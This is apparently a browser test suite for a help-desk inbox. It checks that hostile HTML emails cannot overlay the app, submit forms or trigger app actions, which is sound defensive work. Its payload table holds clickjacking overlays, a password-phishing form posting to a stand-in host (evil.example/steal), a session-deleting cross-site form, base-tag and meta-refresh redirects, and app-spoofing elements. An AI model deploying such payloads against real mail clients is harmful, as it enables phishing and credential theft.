// A click at each corner of the app and on everything a hostile mail shows (SEC-A7): the app's own element is hit, nothing is posted, nothing of the app answers.
import assert from 'node:assert/strict'
import { test } from 'node:test'
import { call, until } from './world/api.mjs'
import { missing } from './world/browser.mjs'
import { deliver, letter } from './world/post.mjs'
import { staged } from './world/stage.mjs'

const ELSEWHERE = 'https://evil.example'
const cover = (more) => `<div style="position:fixed;inset:0;z-index:2147483647;${more}"><a href="${ELSEWHERE}/over">over everything</a></div>`
/** Words as the app uses them, so that its own styles and handlers would take the mail's parts for theirs. */
const borrowed = (places, classes) => `<div id="app" class="${classes}" role="dialog" aria-modal="true"><main id="main">${places.map((place) => `<button class="${classes}" id="${place}" data-testid="${place}" onclick="alert(1)" accesskey="e">false ${place}</button>`).join(' ')}<label for="q">false label</label><a href="/settings/team" class="${classes}">false way</a><a href="#main">false jump</a></main></div>`
const MAILS = {
  'a fixed overlay': () => cover('background:red'),
  'an overlay nobody sees': () => cover('opacity:0'),
  'an overlay by a style sheet': () => `<style>.x{position:fixed !important;top:0;left:0;width:100vw;height:100vh;z-index:99999} body{position:fixed;inset:0}</style><div class="x">over everything</div>`,
  'a body out of its place': () => `<div style="position:absolute;margin:-9000px;padding:9000px;transform:translate(-50%,-50%) scale(50)">far out</div><table style="position:sticky;top:0;left:0;width:9999px;height:9999px"><tr><td>wide</td></tr></table>`,
  'a form to elsewhere': () => `<form action="${ELSEWHERE}/steal" method="post" target="_top"><input name="password" autofocus><input type="image" src="x" alt="picture"><button formaction="${ELSEWHERE}/steal2">Sign in again</button><input type="submit" value="Send"></form>`,
  'a form to the app': () => `<form action="/api/v1/sessions/current" method="post"><input type="hidden" name="_method" value="DELETE"><button>Sign out</button></form><form action="/api/v1/conversations" method="post" enctype="text/plain"><button>Write</button></form>`,
  'another base': () => `<base href="${ELSEWHERE}/" target="_top"><a href="relative">relative</a> <a href="?q=1">query</a> <a href="//evil.example/x">two slashes</a>`,
  'a refresh': () => `<meta http-equiv="refresh" content="0;url=${ELSEWHERE}/refresh"><meta http-equiv="Content-Security-Policy" content="default-src *"><p>stay</p>`,
  'names of the app': ({ places, classes }) => borrowed(places, classes),
}

const { desk, mia } = await staged({ mia: 'administrator' })

/** What the app calls its own parts. */
const names = (page) => page.evaluate(() => ({
  places: [...new Set([...document.querySelectorAll('[data-testid]')].map((e) => e.dataset.testid))].filter((name) => /^[\w-]+$/.test(name)).slice(0, 60),
  classes: [...new Set([...document.querySelectorAll('[class]')].flatMap((e) => [...e.classList]))].filter((name) => /^[\w-]+$/.test(name)).slice(0, 200).join(' '),
}))

/** From here on a click is only written down: where it landed, in words that do not depend on what is shown. */
const listen = (page) => page.evaluate(() => {
  globalThis.landed = []
  for (const kind of ['pointerdown', 'mousedown', 'click']) {
    addEventListener(kind, (event) => {
      event.preventDefault(); event.stopImmediatePropagation()
      if (kind !== 'click') return
      const path = event.composedPath().filter((one) => one.localName).map((one) => one.localName + (one.dataset?.testid ? `[${one.dataset.testid}]` : ''))
      globalThis.landed.push({ path: path.join(' < '), mail: event.composedPath().some((one) => one.classList?.contains('message')) })
    }, { capture: true, signal: (globalThis.quiet ??= new AbortController()).signal })
  }
})
const corners = async (page) => {
  const { width, height } = page.viewportSize()
  await listen(page)
  for (const [x, y] of [[3, 3], [width - 4, 3], [3, height - 4], [width - 4, height - 4]]) await page.mouse.click(x, y)
  return page.evaluate(() => { globalThis.quiet.abort(); globalThis.quiet = undefined; return globalThis.landed })
}

async function open(page, subject) {
  const found = await until(`the mail “${subject}”`, async () => (await call(page, 'GET', '/conversations?view=unassigned&sort=newest&limit=50')).items.find((one) => one.subject === subject))
  await page.goto(`${desk.address}/inbox/all/${found.id}`)
  await page.getByRole('heading', { name: subject }).waitFor()
  const message = page.getByTestId('message-in').first()
  await message.waitFor()
  return message
}

async function arrives(subject, html) {
  await deliver(desk.mailPort, letter({ from: `${subject.replace(/\W/g, '')}@hostile.example`, to: 'hello@larkmill.example', subject, html }))
}

/** What the app writes by itself while somebody reads: that they look, and that they have read. */
const byItself = (request) => /\/presence$/.test(request.url()) || request.postData() === '{"unread":false}'

/** Clicks these parts of a mail; gives what was written to any server meanwhile. */
async function clickThrough(page, parts) {
  const asked = []
  const note = (request) => { if (request.method() !== 'GET' && !byItself(request)) asked.push(`${request.method()} ${request.url()} ${request.postData()}`) }
  page.on('request', note)
  for (const part of (await parts.all()).slice(0, 40)) if (await part.isVisible()) await part.click({ noWaitAfter: true, timeout: 1_000 }).catch(() => {})
  page.off('request', note)
  return asked
}

const at = (page) => new URL(page.url()).pathname
const dialogs = (page) => page.locator('[role=dialog]:visible').count()

test('hostile mails cover nothing, post nothing and reach nothing of the app', { skip: missing, timeout: 300_000 }, async (t) => {
  const { page, context } = mia
  mia.expects(/violates the following Content Security Policy directive|sandbox|Refused to/)
  await arrives('Plain words', '<p>Only words.</p>')
  await open(page, 'Plain words')
  const own = await corners(page)
  assert.equal(own.length, 4)
  assert.deepEqual(own.filter((one) => one.mail), [], 'a corner belongs to the app')
  await page.evaluate(() => { const lid = document.createElement('div'); lid.id = 'lid'; lid.style.cssText = 'position:fixed;inset:0;z-index:9999'; document.querySelector('main, body').append(lid) })
  assert.notDeepEqual(await corners(page), own, 'the probe sees what covers the app')
  await page.evaluate(() => document.getElementById('lid').remove())
  const known = await names(page)
  assert.ok(known.places.length > 5 && known.classes.length > 100)
  // Windows of their own are where links of a mail lead; they are no part of the app.
  context.on('page', (opened) => void opened.close())
  await context.route(`${ELSEWHERE}/**`, (route) => route.abort())
  mia.expects(/evil\.example/)
  for (const [name, html] of Object.entries(MAILS)) {
    await t.test(name, async () => {
      const subject = `Corner ${name}`
      await arrives(subject, html(known))
      const message = await open(page, subject)
      const place = at(page)
      assert.deepEqual(await corners(page), own, 'the same parts of the app as without the mail')
      assert.deepEqual(await message.locator('.node-tree').locator('[id], [data-testid], [onclick], form, input, button, base, meta, style').count(), 0)
      assert.deepEqual(await clickThrough(page, message.locator('.node-tree *')), [])
      assert.deepEqual([at(page), await dialogs(page)], [place, 0], 'nothing of the app answered')
      await message.getByRole('button', { name: 'More about this message' }).click()
      const original = page.getByRole('menuitem', { name: 'Show the original look' })
      if (await original.count() === 0) { await page.keyboard.press('Escape'); return }
      await original.click()
      const frame = message.locator('iframe')
      await frame.contentFrame().locator('body').waitFor({ state: 'attached' })
      assert.deepEqual(await corners(page), own, 'nor does the original look cover anything')
      assert.deepEqual(await clickThrough(page, frame.contentFrame().locator('body *')), [])
      assert.deepEqual([at(page), await dialogs(page)], [place, 0])
    })
  }
  mia.clean()
})
